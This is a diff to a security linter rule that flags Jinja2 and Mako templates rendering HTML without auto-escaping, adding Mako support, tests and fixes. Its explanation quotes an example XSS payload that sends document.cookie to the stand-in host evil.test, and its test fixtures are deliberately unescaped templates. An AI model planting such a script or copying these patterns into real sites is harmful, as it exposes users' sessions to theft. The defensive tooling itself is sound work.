@@ -1,4 +1,4 @@
-"""TG111: a Jinja2 environment that renders HTML without auto-escaping."""
+"""TG111: a Jinja2 or Mako template engine that renders HTML without auto-escaping."""
 
 from __future__ import annotations
 
@@ -6,8 +6,10 @@ import ast
 
 from tabguard.engine.fixes import expression_fix, set_keyword, text_fix
 from tabguard.engine.rule import Invalid, Rule
+from tabguard.rules.injection._strings import constant_text
 
 _ENVIRONMENTS = frozenset({"jinja2.Environment", "jinja2.environment.Environment", "jinja2.Template"})
+_MAKO = frozenset({"mako.template.Template", "mako.lookup.TemplateLookup"})
 
 
 def _escape_setting(ctx) -> str:
@@ -23,24 +25,24 @@ def _escape_setting(ctx) -> str:
 
 class Jinja2AutoescapeOff(Rule):
     id = "TG111"
-    name = "jinja2-autoescape-off"
+    name = "template-autoescape-off"
     severity = "medium"
     confidence = "medium"
     cwe = (79,)
     owasp = "A05:2025"
-    message = "Jinja2 {what}: variables are inserted into HTML unescaped"
-    placeholders = {"what": "environment without autoescape"}
+    message = "{what}: variables are inserted into HTML unescaped"
+    placeholders = {"what": "Jinja2 environment without autoescape"}
     aliases = ("B701", "S701")
-    what = "A Jinja2 {what}, so `{{{{ value }}}}` writes the value into the page as raw HTML."
+    what = "{what}, so `{{{{ value }}}}` (Mako: `${{value}}`) writes the value into the page as raw HTML."
     why = (
         "Jinja2's default is `autoescape=False` (Flask turns it on for its own environment only). A "
         "stored comment such as `<script>new Image().src='//evil.test?c='+document.cookie</script>` "
         "rendered through `Environment(loader=...)` runs in every reader's browser."
     )
     how = (
-        "Create environments with `autoescape=select_autoescape()` (escaping for .html/.xml templates and "
-        "strings) or `autoescape=True`; mark trusted snippets with `Markup` in code, not by switching "
-        "escaping off."
+        "Create Jinja2 environments with `autoescape=select_autoescape()` (escaping for .html/.xml "
+        "templates and strings) or `autoescape=True`; give Mako `default_filters=[\"h\"]`. Mark trusted "
+        "snippets with `Markup` in code, not by switching escaping off."
     )
     example = 'env = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())'
     fix_safety = (
@@ -55,7 +57,9 @@ class Jinja2AutoescapeOff(Rule):
     VALID = (
         'from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=select_autoescape())\n',
         'import jinja2\nenv = jinja2.Environment(autoescape=True)\n',
-        'import jinja2\nt = jinja2.Template("{{ x }}", autoescape=True)\n',
+        'import jinja2\nt = jinja2.Template("<p>{{ x }}</p>", autoescape=True)\n',
+        'import jinja2\nt = jinja2.Template("Dear {{ name }},")\n',
+        'from mako.lookup import TemplateLookup\nlookup = TemplateLookup(directories=["t"], default_filters=["h"])\n',
         'def f(app):\n    app.jinja_env.autoescape = True\n',
     )
     INVALID = (
@@ -71,26 +75,47 @@ class Jinja2AutoescapeOff(Rule):
             'from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=False)\n',
             'from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=select_autoescape())\n',
         ),
+        Invalid(
+            'import jinja2\nPAGE = jinja2.Template("<p>{{ comment }}</p>")\n',
+            'import jinja2\nPAGE = jinja2.Template("<p>{{ comment }}</p>", autoescape=jinja2.select_autoescape())\n',
+        ),
+        Invalid(
+            'from mako.template import Template\npage = Template("<p>${comment}</p>")\n',
+            'from mako.template import Template\npage = Template("<p>${comment}</p>", default_filters=["h"])\n',
+        ),
         Invalid('from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = False\n',
                 'from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = True\n'),
     )
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
         callee = ctx.call_name(node) or ""
-        if callee not in _ENVIRONMENTS:
+        if callee in _MAKO:
+            self._check_mako(node, ctx)
             return
+        if callee not in _ENVIRONMENTS or any(k.arg is None for k in node.keywords):
+            return  # **options may set it
         keyword = ctx.keyword(node, "autoescape")
+        kind = "template" if callee == "jinja2.Template" else "environment"
         if keyword is None:
-            if callee == "jinja2.Template" or any(k.arg is None for k in node.keywords):
-                return  # Template() is TG108's concern; **options may set it
-            what = "environment without `autoescape`"
+            source = node.args[0] if node.args else None
+            if kind == "template" and "<" not in constant_text(source, ctx):
+                return  # a text (not HTML) template, or one whose source TG108 judges
+            what = f"Jinja2 {kind} without `autoescape`"
         elif isinstance(keyword.value, ast.Constant) and keyword.value.value is False:
-            what = "environment with `autoescape=False`" if callee != "jinja2.Template" else "template with `autoescape=False`"
+            what = f"Jinja2 {kind} with `autoescape=False`"
         else:
             return
         value = _escape_setting(ctx)
         ctx.report(self, node, details={"what": what},
                    fix=expression_fix(ctx, node, set_keyword("autoescape", value), f"Fix: set autoescape={value}", safe=False))
+
+    def _check_mako(self, node: ast.Call, ctx) -> None:
+        """Mako escapes nothing unless `default_filters` includes `h`."""
+        keyword = ctx.keyword(node, "default_filters")
+        if keyword is not None or any(k.arg is None for k in node.keywords):
+            return
+        ctx.report(self, node, details={"what": "Mako template without the `h` (HTML escape) default filter"},
+                   fix=expression_fix(ctx, node, set_keyword("default_filters", '["h"]'), "Fix: escape HTML by default", safe=False))
 
     def visit_Assign(self, node: ast.Assign, ctx) -> None:
         value = node.value
@@ -100,5 +125,5 @@ class Jinja2AutoescapeOff(Rule):
             if isinstance(target, ast.Attribute) and target.attr == "autoescape" and (
                 isinstance(target.value, ast.Attribute) and target.value.attr == "jinja_env"
             ):
-                ctx.report(self, node, details={"what": "environment with `autoescape` switched off"},
+                ctx.report(self, node, details={"what": "Jinja2 environment with `autoescape` switched off"},
                            fix=text_fix(ctx.span(value), "True", "Fix: set autoescape=True", safe=False))
